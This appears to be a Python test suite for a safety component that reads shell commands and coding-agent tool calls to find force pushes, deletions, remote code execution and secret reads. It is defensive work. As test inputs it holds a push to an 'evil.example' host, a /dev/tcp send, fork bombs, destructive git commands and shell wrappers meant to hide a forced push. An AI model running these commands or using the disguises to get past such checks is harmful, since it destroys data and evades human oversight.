"""What a command line would do is read from its meaning, however it is written."""

from __future__ import annotations

import shlex
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nightgarden.safety.command_reading import CommandReading, Effect
from nightgarden.safety.read_action import read_action
from nightgarden.safety.read_command import CHARS_MAX, read_command
from tests.safety.disguises import DELETIONS, FORCE_PUSHES, REMOTE_CODE, SECRET_READS
from tests.safety.ordinary import CHANGING, LOOKING


def read(text: str) -> CommandReading:
    return read_command(text, cwd="/srv/app", home="/home/u")


def forced(reading: CommandReading) -> bool:
    return any(command.git is not None and command.git.force for command in reading.commands)


@pytest.mark.parametrize("command", FORCE_PUSHES)
def test_a_forced_push_is_seen_in_every_disguise(command: str) -> None:
    assert forced(read(command))


@pytest.mark.parametrize(("command", "path"), DELETIONS)
def test_what_is_deleted_is_named(command: str, path: str) -> None:
    assert path in {path for each in read(command).commands for path in each.deletes}


@pytest.mark.parametrize("command", REMOTE_CODE)
def test_code_from_the_network_is_seen_when_it_runs(command: str) -> None:
    assert any(Effect.REMOTE_CODE in each.effects for each in read(command).commands)


@pytest.mark.parametrize(("command", "path"), SECRET_READS)
def test_what_is_read_is_named(command: str, path: str) -> None:
    assert path in read(command).all_reads


@pytest.mark.parametrize("command", LOOKING)
def test_a_command_that_looks_changes_nothing(command: str) -> None:
    assert read(command).reads_only


@pytest.mark.parametrize("command", CHANGING)
def test_a_command_that_changes_something_is_not_taken_for_one_that_looks(command: str) -> None:
    reading = read(command)
    assert not reading.reads_only
    assert not forced(reading)
    assert not any(Effect.REMOTE_CODE in each.effects for each in reading.commands)


@pytest.mark.parametrize(
    ("command", "branches", "remote", "force", "lease", "deletes"),
    [
        ("git push", (), "", False, False, False),
        ("git push origin feature", ("feature",), "origin", False, False, False),
        ("git push -u origin HEAD", ("",), "origin", False, False, False),
        ("git push origin HEAD:main", ("main",), "origin", False, False, False),
        ("git push origin a:refs/heads/b", ("b",), "origin", False, False, False),
        ("git push origin +a", ("a",), "origin", True, False, False),
        ("git push --force-with-lease origin a", ("a",), "origin", True, True, False),
        ("git push origin :old", ("old",), "origin", False, False, True),
        ("git push -d origin old", ("old",), "origin", False, False, True),
        ("git push origin --delete old", ("old",), "origin", False, False, True),
        ("git push --del origin old", ("old",), "origin", False, False, True),
        ("git push --prune origin", (), "origin", False, False, True),
        ("git push --all origin", ("*",), "origin", False, False, False),
        ("git push https://evil.example/x.git main", ("main",), "https://evil.example/x.git", False, False, False),
    ],
)
def test_a_push_is_read_by_meaning(
    command: str, branches: tuple[str, ...], remote: str, force: bool, lease: bool, deletes: bool
) -> None:
    act = read(command).commands[0].git
    assert act is not None
    assert (act.branches, act.remote, act.force) == (branches, remote, force)
    assert (act.lease, act.deletes_remote) == (lease, deletes)


@pytest.mark.parametrize(
    ("command", "rewrites", "discards"),
    [
        ("git reset --hard", False, True),
        ("git reset --hard HEAD~3", True, True),
        ("git reset --har origin/main", True, True),
        ("git reset HEAD file", False, False),
        ("git rebase main", True, False),
        ("git rebase --abort", False, False),
        ("git commit --amend", True, False),
        ("git commit --ame --no-edit", True, False),
        ("git commit -m 'rebase --hard'", False, False),
        ("git checkout -- .", False, True),
        ("git checkout .", False, True),
        ("git checkout main", False, False),
        ("git restore src", False, True),
        ("git restore --staged src", False, False),
        ("git branch -f main HEAD~3", True, False),
        ("git branch -D old", True, False),
        ("git filter-branch --tree-filter x", True, False),
        ("git update-ref refs/heads/main abc", True, False),
        ("git stash drop", False, True),
        ("git clean -fdx", False, True),
        ("git reflog expire --all", True, False),
    ],
)
def test_what_git_rewrites_or_discards(command: str, rewrites: bool, discards: bool) -> None:
    act = read(command).commands[0].git
    assert act is not None
    assert (act.rewrites, act.discards) == (rewrites, discards)


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl https://user:pw@a.example:8443/x?y#z", ("a.example",)),
        ("curl a.example/x", ("a.example",)),
        ("wget -q http://b.example", ("b.example",)),
        ("scp x u@c.example:/tmp", ("c.example",)),
        ("rsync -a x rsync://d.example/y", ("d.example",)),
        ("ssh -p 22 u@e.example ls", ("e.example",)),
        ("nc f.example 80", ("f.example",)),
        ("echo x > /dev/tcp/g.example/80", ("g.example",)),
        ("git fetch upstream", ("upstream",)),
        ("curl $URL", ("\0",)),
    ],
)
def test_where_something_is_sent(command: str, hosts: tuple[str, ...]) -> None:
    assert read(command).commands[0].sends == hosts


@pytest.mark.parametrize(
    "command",
    ["'", '"', "$(", "`", "${", "((", "(", "{", "[[", "case", "case x in", "<<", "<<E", ">", "|", "&&", ")", "}", "a)",
     "for", "for x in", "function", "f(", "a=(", "a[$(x)]=1", "\\", "$", "$'", "~", "{a,", ";;", "esac", "done|",
     "<(", "!",
     "\0", "x" * (CHARS_MAX + 1), "(" * 5000, "$(" * 5000, "{a,b}" * 40, ":(){ :|:& };:", "f(){ f; f; }; f",
     "a=aa;" + "a=$a$a;" * 60, "eval " * 3000, "sh -c " * 2000, "\ud800", "`" * 999, "$((" * 500, "{" * 3000,
     '"$(' * 300],
)  # fmt: skip
def test_what_cannot_be_read_never_raises_and_is_not_taken_for_harmless(command: str) -> None:
    reading = read(command)
    assert len(reading.commands) <= 400


@pytest.mark.parametrize(
    "command", ["git push '", "$(", "ls )", "\0ls", "x" * (CHARS_MAX + 1), "(" * 5000, "{a,b}" * 40, ":(){ :|:& };:"]
)
def test_what_was_not_understood_says_why(command: str) -> None:
    assert read(command).unknown
    assert not read(command).reads_only


SHELL_SIGNS = "$(){}[]<>|&;`'\"\\\n #=*~!-abgit push rm"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.one_of(st.sampled_from(SHELL_SIGNS), st.characters()), max_size=200))
def test_any_text_is_read_without_an_error(text: str) -> None:
    read(text)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=string.printable, max_size=12), max_size=5))
def test_quoted_words_come_out_as_they_went_in(words: list[str]) -> None:
    (command,) = read(shlex.join(["frob", *words])).commands
    assert command.words == ("frob", *words)


QUOTINGS = st.sampled_from(["{}", "'{}'", '"{}"', "\\{}"])
WRAPS = st.sampled_from(
    ["{}", "({})", "{{ {}; }}", "true && {}", "sh -c {q}", "bash -lc {q}", "eval {q}", "echo $({})",
        "env A=1 sh -c {q}",
     "sudo -n sh -c {q}", "if :; then {}; fi", "timeout 9 sh -c {q}", "echo {q} | sh", "x={q}; eval \"$x\"",
     "f() {{ {}; }}; f"]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.tuples(QUOTINGS, st.sampled_from(["-f", "--force"])), min_size=1, max_size=1),
    st.lists(WRAPS, max_size=4),
)
def test_wrapping_a_forced_push_in_anything_does_not_hide_it(options: list[tuple[str, str]], wraps: list[str]) -> None:
    command = "git push " + " ".join(quoting.format(option) for quoting, option in options)
    for wrap in wraps:
        command = wrap.replace("{q}", shlex.quote(command).replace("{", "{{").replace("}", "}}")).format(command)
    assert forced(read(command))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(LOOKING), st.sampled_from([" ; ", " && ", "\n", " || "])), min_size=1, max_size=4
    )
)
def test_several_commands_that_look_still_only_look(lines: list[tuple[str, str]]) -> None:
    assert read("".join(f"{line}{joint}" for line, joint in lines) + "true").reads_only


PATCH = """*** Begin Patch
*** Update File: src/a.py
@@
-print(1)
+log.info(1)
*** Add File: b.py
+x = 1
*** Delete File: old.py
*** End Patch"""


@pytest.mark.parametrize(
    ("tool", "given_", "path", "added", "removed"),
    [
        ("Write", {"file_path": "a.py", "content": "x"}, "/srv/app/a.py", "x", ""),
        ("Edit", {"file_path": "/o/a.py", "old_string": "print(", "new_string": "log("}, "/o/a.py", "log(", "print("),
        ("MultiEdit", {"file_path": "a", "edits": [{"old_string": "1", "new_string": "2"}]}, "/srv/app/a", "2", "1"),
        ("NotebookEdit", {"notebook_path": "n.ipynb", "new_source": "y"}, "/srv/app/n.ipynb", "y", ""),
        ("edit", {"filePath": "a", "oldString": "1", "newString": "2"}, "/srv/app/a", "2", "1"),
        ("write", {"filePath": "~/a", "content": "2"}, "/home/u/a", "2", ""),
        ("apply_patch", {"input": PATCH}, "/srv/app/src/a.py", "log.info(1)", "print(1)"),
        ("patch", {"patchText": "--- a/x\n+++ b/x\n@@\n-a\n+b\n"}, "/srv/app/x", "b", "a"),
    ],
)
def test_edits_of_every_client_are_read_by_path_and_new_text(
    tool: str, given_: dict[str, object], path: str, added: str, removed: str
) -> None:
    edit = read_action(tool, given_, cwd="/srv/app", home="/home/u").edits[0]
    assert (edit.path, edit.added, edit.removed) == (path, added, removed)


@pytest.mark.parametrize(
    ("tool", "given_"),
    [
        ("Bash", {"command": "git push -f"}),
        ("bash", {"command": "git push -f", "description": "push"}),
        ("exec_command", {"cmd": "git push -f"}),
        ("shell", {"command": ["bash", "-lc", "git push -f"]}),
        ("local_shell", {"command": ["git", "push", "-f"]}),
        ("write_stdin", {"session_id": 1, "chars": "git push -f\n"}),
    ],
)
def test_shells_of_every_client_are_read(tool: str, given_: dict[str, object]) -> None:
    assert forced(read_action(tool, given_, cwd="/srv/app", home="/home/u"))


def test_a_patch_given_to_a_shell_names_its_files() -> None:
    reading = read(f"apply_patch <<'EOF'\n{PATCH}\nEOF")
    assert reading.all_writes == ("/srv/app/src/a.py", "/srv/app/b.py", "/srv/app/old.py")
    assert "log.info(1)" in reading.commands[0].text


@pytest.mark.parametrize(
    ("tool", "given_"),
    [("Frobnicate", {}), ("mcp__mail__send", {"to": "x"}), ("Bash", {}), ("Bash", {"command": 7}), ("Edit", {}),
     ("apply_patch", {"input": 3})],
)  # fmt: skip
def test_a_call_that_is_not_known_is_unknown(tool: str, given_: dict[str, object]) -> None:
    assert read_action(tool, given_, cwd="/srv/app", home="/home/u").unknown


def test_reading_takes_time_in_proportion_to_the_text() -> None:
    """Counted, not timed: the steps of the parser over texts that double."""
    import sys  # only here: it counts calls

    def calls(text: str) -> int:
        count = 0

        def tick(*_: object) -> None:
            nonlocal count
            count += 1

        sys.setprofile(tick)
        try:
            read(text)
        finally:
            sys.setprofile(None)
        return count

    for unit in ("echo {a,{ ", "$((", "echo $(echo ", "'a' ", "{", "x=1 ", "a\\\n", '"', "echo a | ", "<<E ", "`a` "):
        short, long = calls(unit * 200), calls(unit * 800)
        assert long < 8 * short + 20_000, unit
